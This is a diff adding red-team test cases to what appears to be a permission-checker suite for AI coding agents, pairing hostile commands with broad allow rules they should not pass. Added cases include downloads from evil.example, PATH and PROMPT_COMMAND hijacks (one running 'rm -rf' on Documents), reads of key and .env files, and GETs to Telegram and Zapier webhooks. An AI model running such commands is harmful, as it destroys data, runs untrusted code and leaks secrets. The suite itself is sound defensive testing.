@@ -373,6 +373,22 @@ ISSUE_30_RED_TEAM_SHELL_FAMILIES: Families = [
     ("F6 a download named by the server", openhands("curl -sOJ https://evil.example/dl"), ["curl *"]),
     ("F6 wget names the file after the address", codex("wget -q https://evil.example/conftest.py"), ["wget *"]),
     ("F6 git run where a repository may be laid out", bash("cd vendor/x && git fetch origin"), ["git *"]),
+    ("F7 a runner given tests outside the project", bash("pytest /tmp/evil"), ["pytest *"]),
+    ("F7 a linter config outside the project", gemini("npx eslint -c /tmp/evil.js ."), ["npx eslint *"]),
+    ("F7 a plugin loaded by name", bash("pytest -p evil_plugin"), ["pytest *"]),
+    ("F7 a requirements file is code to install", codex("pip install -r /tmp/r.txt"), ["pip install *"]),
+    ("F7 an archive in capitals", goose("pip install evil.ZIP"), ["pip install *"]),
+    ("F8 printf -v sets PATH", bash("printf -v PATH '%s' /tmp/evil; ls"), ["printf *", "ls *"]),
+    ("F8 read sets PROMPT_COMMAND", openhands("read PROMPT_COMMAND <<< 'rm -rf /home/me/Documents'"), ["read *"]),
+    ("F8 a loop sets PATH", codex("for PATH in /tmp/evil; do ls; done"), ["ls *"]),
+    ("F10 a glob of key files", bash("cat certs/*.key"), ["cat *"]),
+    ("F10 a key in capitals", openhands("cat KEY.PEM"), ["cat *"]),
+    ("F11 tox -e names a target", bash("tox -e deploy"), ["tox *"]),
+    ("F11 nox -s names a session", codex("nox -s publish"), ["nox *"]),
+    ("F12 gawk @include reads another program", bash("awk '@include \"/tmp/x.awk\"' README.md"), ["awk *"]),
+    ("F13 tofu plan runs external data sources", gemini("tofu plan"), ["tofu plan*"]),
+    ("F13 an inventory script runs for --list-hosts",
+     codex("ansible-playbook --list-hosts -i /tmp/evil.py site.yml"), ["ansible-playbook *"]),
 ]
 ISSUE_30_RED_TEAM_TOOL_FAMILIES: ToolFamilies = [
     ("F6 a module that shadows the standard library", ("Write", {"file_path": f"{PROJECT}/argparse.py",
@@ -396,5 +412,15 @@ ISSUE_30_RED_TEAM_TOOL_FAMILIES: ToolFamilies = [
      ("mcp__git__git_checkout", {"repo_path": PROJECT, "branch_name": "."}), "mcp__git__git_checkou*"),
     ("F9 an MCP checkout of the branch `-f`",
      ("mcp__git__git_checkout", {"repo_path": PROJECT, "branch_name": "-f"}), "mcp__git__git_checkou*"),
+]
+ISSUE_30_RED_TEAM_TOOL_FAMILIES += [
+    ("F4 a GET to a bot API sends a message",
+     ("http_request", {"url": "https://api.telegram.org/bot1:a/sendMessage?chat_id=1&text=hi"}), "http_reques*"),
+    ("F4 a GET to a webhook", ("WebFetch", {"url": "https://hooks.zapier.com/hooks/catch/1/abc/?x=1", "prompt": "x"}),
+     "WebFetc*"),
+    ("F10 a Grep glob of .env files", ("Grep", {"pattern": ".", "path": PROJECT, "glob": "**/.env",
+                                              "output_mode": "content"}), "Gre*"),
+    ("F10 read_many_files include of key files", ("read_many_files", {"paths": ["."], "include": ["**/*.pem"]}),
+     "read_many_file*"),
 ]
 ISSUE_30_RED_TEAM_CASES = as_cases(ISSUE_30_RED_TEAM_SHELL_FAMILIES, ISSUE_30_RED_TEAM_TOOL_FAMILIES)
